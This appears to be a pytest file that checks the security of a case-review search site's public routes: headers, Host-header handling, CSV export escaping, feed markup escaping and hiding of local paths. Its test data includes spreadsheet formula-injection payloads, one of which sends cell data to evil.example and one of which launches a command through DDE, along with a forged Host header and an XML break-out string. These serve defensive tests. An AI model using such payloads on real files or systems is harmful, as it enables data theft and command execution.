"""What the public routes send: security headers on every response, no address taken from the
Host header, exports a spreadsheet cannot run, feeds whose markup text cannot break, no local
paths, files of public reports only, and the catalogue's pages while the engine is down."""

from __future__ import annotations

import csv
import dataclasses
import io
import socket
import xml.etree.ElementTree as ET

import pytest
from sqlalchemy import select

from casereview.catalogue import Report, Source
from search_app import create_app
from tests.librarian_support import index, make_report

ATOM = "{http://www.w3.org/2005/Atom}"
HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tindented",
    "\rreturn",
]


@pytest.fixture
def published(tmp_path, catalogue, archive, search_engine, config):
    """Two indexed reports: one a publisher's, one ingested from a local folder."""
    web = make_report(
        catalogue, archive, tmp_path, "Review of Child W", "Text.", themes=["neglect"]
    )
    local = make_report(catalogue, archive, tmp_path, "Review of Child L", "Text.")
    with catalogue.session() as session:
        session.add(Source(report_id=web, url="https://lscp.example.org/w.pdf", publisher="LSCP"))
        session.add(
            Source(
                report_id=local,
                url=(tmp_path / "secret-folder" / "l.pdf").as_uri(),
                publisher="local file",
            )
        )
    index(catalogue, search_engine, config, web, local)
    return web, local


PAGES = ["/", "/search?q=review", "/stats", "/api/search", "/feed.atom", "/api/openapi.json"]


def test_every_response_carries_the_security_headers(client, published):
    web, _ = published
    for path in [*PAGES, f"/reviews/{web}", "/no-such-page", "/librarian/login"]:
        response = client.get(path)
        policy = response.headers.get("Content-Security-Policy", "")
        directives = {d.strip() for d in policy.split(";")}
        assert {
            "default-src 'none'",
            "style-src 'self'",
            "frame-ancestors 'none'",
            "base-uri 'none'",
            "form-action 'self'",
        } <= directives, path
        assert response.headers["X-Content-Type-Options"] == "nosniff", path
        assert response.headers["Referrer-Policy"] == "same-origin", path
    # No page needs inline styles or scripts the policy would block.
    for path in ["/", "/search?q=review", "/stats", f"/reviews/{web}", "/librarian/login"]:
        html = client.get(path).get_data(as_text=True)
        assert "style=" not in html and "<style" not in html and "<script" not in html, path
    pdf = client.get(f"/reviews/{web}/file")
    assert pdf.mimetype == "application/pdf" and pdf.headers["X-Content-Type-Options"] == "nosniff"
    pdf.close()


def test_the_host_header_never_reaches_links(client, published, config):
    web, _ = published
    forged = {"Host": "evil.example"}
    for path in [f"/reviews/{web}", "/api/openapi.json", "/feed.atom", f"/api/reviews/{web}"]:
        body = client.get(path, headers=forged).get_data(as_text=True)
        assert "evil.example" not in body, path
    assert client.get("/api/openapi.json").get_json()["servers"] == [{"url": "/"}]

    public = create_app(
        {
            "TESTING": True,
            "CASEREVIEW": dataclasses.replace(config, public_url="https://reviews.example.org"),
        }
    ).test_client()
    page = public.get(f"/reviews/{web}", headers=forged).get_data(as_text=True)
    assert f'<link rel="canonical" href="https://reviews.example.org/reviews/{web}">' in page
    document = public.get("/api/openapi.json", headers=forged).get_json()
    assert document["servers"] == [{"url": "https://reviews.example.org"}]
    feed = ET.fromstring(public.get("/feed.atom", headers=forged).get_data())
    assert (
        feed.find(f"{ATOM}link[@rel='self']")
        .get("href")
        .startswith("https://reviews.example.org/feed.atom")
    )


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
    tmp_path, client, catalogue, archive, search_engine, config
):
    ids = [
        make_report(catalogue, archive, tmp_path, title, "Text.", board=title, review_key=title)
        for title in HOSTILE_TITLES
    ]
    index(catalogue, search_engine, config, *ids)
    text = client.get("/export.csv").get_data().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(HOSTILE_TITLES)
    for row in rows:
        for name in ("title", "board", "review_key"):
            assert row[name].startswith("'") and row[name][1:] in HOSTILE_TITLES, row[name]
    # JSON is data, not a spreadsheet: the values stay as they are.
    exported = client.get("/export.json").get_json()["reviews"]
    assert sorted(r["title"] for r in exported) == sorted(HOSTILE_TITLES)


def test_quotes_in_a_theme_cannot_break_out_of_the_feeds_markup(
    tmp_path, client, catalogue, archive, search_engine, config
):
    theme = 'neglect"/><entry><title>injected</title></entry><category term="x'
    rid = make_report(catalogue, archive, tmp_path, "Review <&> of Child F", "Text.")
    with catalogue.session() as session:
        session.get(Report, rid).themes = [theme]
    index(catalogue, search_engine, config, rid)
    feed = ET.fromstring(client.get("/feed.atom").get_data())
    [entry] = feed.findall(f"{ATOM}entry")
    assert entry.find(f"{ATOM}title").text == "Review <&> of Child F"
    assert [c.get("term") for c in entry.findall(f"{ATOM}category")] == [theme]


def test_no_local_path_is_shown_only_the_publishers_address(client, published, tmp_path):
    web, local = published
    bodies = [
        client.get("/export.csv").get_data(as_text=True),
        client.get("/export.json").get_data(as_text=True),
        client.get(f"/reviews/{local}").get_data(as_text=True),
        client.get(f"/api/reviews/{local}").get_data(as_text=True),
        client.get(f"/reviews/{web}").get_data(as_text=True),
    ]
    for body in bodies:
        assert "file://" not in body and "secret-folder" not in body
    assert (
        "https://lscp.example.org/w.pdf" in bodies[0]
        and "https://lscp.example.org/w.pdf" in bodies[4]
    )


@pytest.mark.parametrize("state", ["quarantined", "ocr_failed", "pending"])
def test_files_of_reports_that_are_not_public_are_not_served(
    tmp_path, client, catalogue, archive, state
):
    rid = make_report(catalogue, archive, tmp_path, "Not public", "Text.", state=state)
    for path in (f"/reports/{rid}/file", f"/reviews/{rid}/file", f"/reviews/{rid}"):
        response = client.get(path)
        response.close()
        assert response.status_code == 404, path


def _closed_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def test_an_engine_outage_is_a_503_before_any_export_is_sent_and_review_pages_still_show(
    config, catalogue, published
):
    web, _ = published
    down = create_app(
        {
            "TESTING": True,
            "CASEREVIEW": dataclasses.replace(
                config, elasticsearch_url=f"http://127.0.0.1:{_closed_port()}"
            ),
        }
    ).test_client()
    for path in ("/export.csv", "/export.json"):
        response = down.get(path)
        assert response.status_code == 503, path
        assert "not available" in response.get_data(as_text=True)
    page = down.get(f"/reviews/{web}")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert "Review of Child W" in html and "Similar reviews are unavailable" in html
    assert down.get(f"/api/reviews/{web}").status_code == 200
    with catalogue.session() as session:
        assert session.scalar(select(Report.title).where(Report.id == web)) == "Review of Child W"


def test_a_near_duplicate_is_reported_as_such_never_as_indexed(
    tmp_path, client, catalogue, archive, search_engine, config
):
    original = make_report(catalogue, archive, tmp_path, "Review of Child H", "Neglect.")
    copy = make_report(
        catalogue, archive, tmp_path, "Review of Child H (copy)", "Neglect.", duplicate_of=original
    )
    index(catalogue, search_engine, config, original, copy)
    first = client.get(f"/api/reviews/{original}").get_json()
    assert first["indexed"] is True and first["duplicate_of"] is None
    repeated = client.get(f"/api/reviews/{copy}").get_json()
    assert repeated["indexed"] is False and repeated["duplicate_of"] == original
    assert repeated["duplicate_of_url"].endswith(f"/documents/{original}")
    page = client.get(f"/reviews/{copy}").get_data(as_text=True)
    assert "repeats the text of" in page and f'href="/reviews/{original}"' in page
    assert [h["id"] for h in client.get("/api/search?q=neglect").get_json()["hits"]] == [
        str(original)
    ]
